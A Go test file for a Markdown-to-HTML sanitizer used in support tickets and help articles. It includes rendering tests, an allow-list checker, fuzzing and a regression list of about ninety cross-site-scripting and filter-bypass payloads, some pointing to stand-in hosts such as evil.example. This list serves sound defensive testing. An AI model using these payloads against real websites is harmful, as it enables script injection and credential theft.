package richtext

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

func TestTheSubsetIsRendered(t *testing.T) {
	t.Parallel()
	const r = ` rel="nofollow noopener noreferrer"`
	for _, c := range []struct{ name, src, html, text string }{
		{"nothing", "", "", ""},
		{"lines and paragraphs stay", "a\nb\n\nc", "<p>a<br>\nb</p>\n<p>c</p>\n", "a\nb\n\nc"},
		{"line ends of Windows", "a\r\nb\r\n\r\nc", "<p>a<br>\nb</p>\n<p>c</p>\n", "a\nb\n\nc"},
		{"emphasis", "*a* **b** c_d_e", "<p><em>a</em> <strong>b</strong> c_d_e</p>\n", "a b c_d_e"},
		{"lists", "- a\n- b\n\n3. x\n4. y", "<ul><li>a</li>\n<li>b</li>\n</ul>\n<ol start=\"3\">\n<li>x</li>\n<li>y</li>\n</ol>\n", "- a\n- b\n\n3. x\n4. y"},
		{"a list in a list", "- a\n  - b", "<ul><li>a\n<ul><li>b</li>\n</ul>\n</li>\n</ul>\n", "- a\n  - b"},
		{"a quote", "> a\n> b", "<blockquote><p>a<br>\nb</p>\n</blockquote>\n", "> a\n> b"},
		{"code in a line", "`<b> & \\*`", "<p><code>&lt;b&gt; &amp; \\*</code></p>\n", "<b> & \\*"},
		{"a block of code", "```sql\nSELECT '<x>'\n```", "<pre><code>SELECT &#39;&lt;x&gt;&#39;\n</code></pre>\n", "SELECT '<x>'"},
		{"indented lines", "    a\n      b", "<pre><code>a\n  b\n</code></pre>\n", "a\n  b"},
		{"headings begin below those of the page", "# a\n### b\n##### c", "<h4>a</h4>\n<h6>b</h6>\n<h6>c</h6>\n", "a\n\nb\n\nc"},
		{"a signature is no heading", "Gruß\n---\nKöhler", "<p>Gruß</p>\n<hr>\n<p>Köhler</p>\n", "Gruß\n\n---\n\nKöhler"},
		{"a ticket's number is no heading", "#4711", "<p>#4711</p>\n", "#4711"},
		{"a link", "[Seite](https://a.example/b?c=d&e)", `<p><a href="https://a.example/b?c=d&amp;e"` + r + ">Seite</a></p>\n", "Seite (https://a.example/b?c=d&e)"},
		{"an address", "Siehe https://a.example/b.", `<p>Siehe <a href="https://a.example/b"` + r + ">https://a.example/b</a>.</p>\n", "Siehe https://a.example/b."},
		{"a mail address", "an a@b.example", `<p>an <a href="mailto:a@b.example"` + r + ">a@b.example</a></p>\n", "an a@b.example"},
		{"an image is a link", "![Bild](https://a.example/b.png)", `<p><a href="https://a.example/b.png"` + r + ">Bild</a></p>\n", "Bild (https://a.example/b.png)"},
		{"an image in a link is text", "[![Bild](https://a.example/b.png)](https://c.example)", `<p><a href="https://c.example"` + r + ">Bild</a></p>\n", "Bild (https://a.example/b.png) (https://c.example)"},
		{"a definition does not disappear", "[1]: https://a.example", `<p>[1]: <a href="https://a.example"` + r + ">https://a.example</a></p>\n", "[1]: https://a.example"},
		{"a link into the portal is for articles", "[Hilfe](/hilfe)", "<p>Hilfe</p>\n", "Hilfe (/hilfe)"},
		{"markup is text", "<b>a</b> <!-- c -->", "<p>&lt;b&gt;a&lt;/b&gt; &lt;!-- c --&gt;</p>\n", "<b>a</b> <!-- c -->"},
		{"entities are text", "statt ä steht &auml; &#228;", "<p>statt ä steht &amp;auml; &amp;#228;</p>\n", "statt ä steht &auml; &#228;"},
		{"paths of Windows stay", `\\server\share und C:\Temp\` + "\nweiter", "<p>\\\\server\\share und C:\\Temp\\<br>\nweiter</p>\n", `\\server\share und C:\Temp\` + "\nweiter"},
		{"a mark can be escaped", `\*a\* \[b\]`, "<p>*a* [b]</p>\n", "*a* [b]"},
		{"a table is text", "|a|b|\n|-|-|\n|1|2|", "<p>|a|b|<br>\n|-|-|<br>\n|1|2|</p>\n", "|a|b|\n|-|-|\n|1|2|"},
		{"a log too long for structure stays whole", strings.Repeat("* [x]\r\n", 10_000), "<p>" + strings.Repeat("* [x]<br>\n", 9_999) + "* [x]</p>\n", strings.TrimSpace(strings.Repeat("* [x]\n", 10_000))},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if got := HTML(c.src); got != c.html {
				t.Errorf("HTML = %.500q\nwant   %.500q", got, c.html)
			}
			if got := Text(c.src); got != c.text {
				t.Errorf("Text = %.500q\nwant   %.500q", got, c.text)
			}
		})
	}
}

func TestAnArticleHasHeadingsOfItsOwnAndLinksIntoThePortal(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, src, want string }{
		{"headings", "# a\n## b\n### c", "<h2>a</h2>\n<h2>b</h2>\n<h3>c</h3>\n"},
		{"a page of the portal", "[Hilfe](/hilfe/a#b)", "<p><a href=\"/hilfe/a#b\">Hilfe</a></p>\n"},
		{"a place on the page", "[unten](#b)", "<p><a href=\"#b\">unten</a></p>\n"},
		{"another server without a scheme", "[x](//evil.example)", "<p>x</p>\n"},
		{"the same with a backslash", `[x](/\evil.example)`, "<p>x</p>\n"},
		{"a relative path", "[x](evil)", "<p>x</p>\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if got := ArticleHTML(c.src); got != c.want {
				t.Errorf("ArticleHTML = %q, want %q", got, c.want)
			}
		})
	}
}

// allowed are the elements and their attributes that may ever come out.
var allowed = map[string][]string{
	"p": nil, "br": nil, "hr": nil, "strong": nil, "em": nil, "code": nil, "pre": nil, "blockquote": nil,
	"ul": nil, "ol": {"start"}, "li": nil, "h2": nil, "h3": nil, "h4": nil, "h5": nil, "h6": nil, "a": {"href", "rel"},
}

// danger says what in rendered HTML could harm, as a browser parses it.
func danger(rendered string, article bool) error {
	return inspect(rendered, func(n *html.Node) error { return dangerOf(n, article) })
}

// inspect calls look with every node of a fragment of HTML, as a browser parses it.
func inspect(fragment string, look func(*html.Node) error) error {
	nodes, err := html.ParseFragment(strings.NewReader(fragment), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		return err
	}
	for _, root := range nodes {
		if err := look(root); err != nil {
			return err
		}
		for n := range root.Descendants() {
			if err := look(n); err != nil {
				return err
			}
		}
	}
	return nil
}

// foreign says what of a node is not allowed at all.
func foreign(n *html.Node) error {
	switch n.Type {
	case html.TextNode:
		return nil
	case html.ElementNode:
	default:
		return fmt.Errorf("node of type %d: %q", n.Type, n.Data)
	}
	attributes, ok := allowed[n.Data]
	if !ok {
		return fmt.Errorf("element %s", n.Data)
	}
	for _, a := range n.Attr {
		if !slices.Contains(attributes, a.Key) {
			return fmt.Errorf("attribute %s=%q of %s", a.Key, a.Val, n.Data)
		}
		if u, err := url.Parse(a.Val); a.Key == "href" && (err != nil || !slices.Contains([]string{"http", "https", "mailto", ""}, u.Scheme)) {
			return fmt.Errorf("link to %q", a.Val)
		}
	}
	return nil
}

func dangerOf(n *html.Node, article bool) error {
	if err := foreign(n); err != nil || n.Type != html.ElementNode || n.Data != "a" {
		return err
	}
	attribute := map[string]string{}
	for _, a := range n.Attr {
		attribute[a.Key] = a.Val
	}
	href := attribute["href"]
	inPortal := strings.HasPrefix(href, "#") || strings.HasPrefix(href, "/") && !strings.HasPrefix(href, "//") && !strings.HasPrefix(href, `/\`)
	if article && inPortal {
		return nil
	}
	if inPortal || !strings.Contains(href, ":") || attribute["rel"] != rel {
		return fmt.Errorf("link to %q with rel %q", href, attribute["rel"])
	}
	return nil
}

// attacks are known ways round filters of Markdown and HTML. None is ever
// removed; a new one that got through is added before it is mended.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<img src="x" onerror="alert(1)"`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<iframe src="javascript:alert(1)">`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="data:text/html,<script>alert(1)</script>">`,
	`<embed src="data:image/svg+xml;base64,PHN2Zz4=">`, `<form action=//evil.example><input name=password>`, `<base href="//evil.example/">`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>body{background:url(//evil.example)}</style>`, `<p style="position:fixed;inset:0">x</p>`, `<a href="javascript:alert(1)">x</a>`,
	`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<body onload=alert(1)>`, `<div onclick=alert(1)>`,
	`<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?php alert(1) ?>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x]( javascript:alert(1))`, "[x](java\tscript:alert(1))", "[x](java\nscript:alert(1))",
	`[x](javascript&colon;alert(1))`, `[x](&#106;avascript:alert(1))`, `[x](&#x6A;avascript:alert(1))`, `[x](\javascript:alert(1))`, `[x](javascript\:alert(1))`,
	`[x](<javascript:alert(1)>)`, "[x](\x01javascript:alert(1))", "[x](\u00a0javascript:alert(1))", "[x](\u200bjavascript:alert(1))", `[x](javascript://%0aalert(1))`,
	`[x](data:text/html,<script>alert(1)</script>)`, `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, `[x](vbscript:msgbox(1))`,
	`[x](file:///etc/passwd)`, `[x](blob:https://a/b)`, `[x](//evil.example)`, `[x](\\evil.example)`, `[x](https:javascript)`, `[x](http://)`,
	`[x](https://portal.example@evil.example)`, `[x](mailto:a@b.example?subject="><script>alert(1)</script>)`,
	`![x](javascript:alert(1))`, `![x](data:image/svg+xml,<svg onload=alert(1)>)`, `![x"onerror="alert(1)](https://a.example)`, `![](javascript:alert(1))`,
	`<javascript:alert(1)>`, `<data:text/html,x>`, `<https://a.example/"onmouseover="alert(1)>`, `<a@b.example"onclick="alert(1)>`,
	`[x](https://a.example "t" onmouseover="alert(1)")`, `[x](https://a.example/"onmouseover="alert(1))`, `[x](https://a.example/'onmouseover='alert(1))`,
	`[<script>alert(1)</script>](https://a.example)`, `[x][1]` + "\n\n" + `[1]: javascript:alert(1)`, `https://a.example/"onmouseover="alert(1)`,
	`https://a.example/<script>alert(1)</script>`, `www.a.example/"><img src=x onerror=alert(1)>`, "`<img src=x onerror=alert(1)>`",
	"```\n</code></pre><script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "    </code></pre><script>alert(1)</script>",
	`# <img src=x onerror=alert(1)> {onclick=alert(1)}`, `# x {#id onclick="alert(1)"}`, `> <script>alert(1)</script>`, `- <script>alert(1)</script>`,
	`| <script> | b |` + "\n|-|-|\n" + `| x | y |`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `\<script>alert(1)\</script>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>", "\ufeff<script>alert(1)</script>", `<a href="https://a.example" target=_blank>x</a>`, `[a [b](javascript:alert(1)) c](https://a.example)`,
	"\xff\xfe<script>alert(1)</script>", `<plaintext>`, `<textarea><img src=x onerror=alert(1)>`, `</p></div></main><h1>Anmeldung</h1>`,
}

func TestNoAttackGetsThrough(t *testing.T) {
	t.Parallel()
	for _, src := range attacks {
		for name, r := range map[string]struct {
			html    string
			article bool
		}{
			"message": {HTML(src), false},
			"article": {ArticleHTML(src), true},
			// Long texts go another way.
			"long message": {HTML(src + "\n" + strings.Repeat("x", maxBytes)), false},
		} {
			if err := danger(r.html, r.article); err != nil {
				t.Errorf("%s %q: %v\n%.500s", name, src, err, r.html)
			}
		}
	}
}

func TestTheTestOfDangerSeesWhatItIsFor(t *testing.T) {
	t.Parallel()
	for _, bad := range []string{
		`<script>x</script>`, `<p onclick="x">`, `<p style="x">`, `<img src="x">`, `<a href="javascript:x">y</a>`, `<a href="https://a.example">y</a>`, `<a href="/x">y</a>`, `<!-- x -->`,
	} {
		if danger(bad, false) == nil {
			t.Errorf("%s is taken for harmless", bad)
		}
	}
}

// The writer and the policy are two locks; each has to hold alone.
func TestThePolicyHoldsAlone(t *testing.T) {
	t.Parallel()
	for _, src := range attacks {
		clean := policy.Sanitize(src)
		if err := inspect(clean, foreign); err != nil {
			t.Errorf("%q becomes %q: %v", src, clean, err)
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, src := range attacks {
		f.Add(src)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if err := danger(render(key{ticketText, src}), false); err != nil {
			t.Errorf("message: %v", err)
		}
		if err := danger(render(key{articleText, src}), true); err != nil {
			t.Errorf("article: %v", err)
		}
		Text(src)
	})
}

func TestATangledTextIsNotLookedInto(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, src string
		want      bool
	}{
		{"an ordinary text", strings.Repeat("Guten Tag, *bitte* [hier](https://a.example) > sehen.\n", 100), false},
		{"a line of dashes", strings.Repeat("-", 500), false},
		{"quoted mails", strings.Repeat(">", 20) + " Guten Tag", false},
		{"quotes without end", strings.Repeat(">", 1000), true},
		{"lists without end", strings.Repeat("1. ", 1000), true},
		{"lists in quotes without end", strings.Repeat("> - ", 1000), true},
		{"brackets without end", strings.Repeat("[", 3000), true},
		{"links without end", strings.Repeat("[a](", 3000), true},
		{"emphasis without end", strings.Repeat("*a_", 3000), true},
		{"too long", strings.Repeat("a ", maxBytes), true},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if got := tangled(c.src); got != c.want {
				t.Errorf("tangled = %v, want %v", got, c.want)
			}
			if err := danger(HTML(c.src), false); err != nil {
				t.Error(err)
			}
		})
	}
}

// message is a reply as they are in tickets.
func message(n int) string {
	return fmt.Sprintf("Guten Tag, Miriam Köhler,\n\nzu Ihrer Frage %d:\n\n1. **Buchung** öffnen\n2. `F4` drücken\n\n> Bei uns erscheint die Meldung.\n\nSiehe https://a.example/hilfe.\n", n)
}

func BenchmarkTenEntriesRendered(b *testing.B) {
	for b.Loop() {
		for i := range 10 {
			render(key{ticketText, message(i)})
		}
	}
}

func BenchmarkTenEntriesRemembered(b *testing.B) {
	var texts []string
	for i := range 10 {
		texts = append(texts, message(i))
	}
	for b.Loop() {
		for _, s := range texts {
			HTML(s)
		}
	}
}
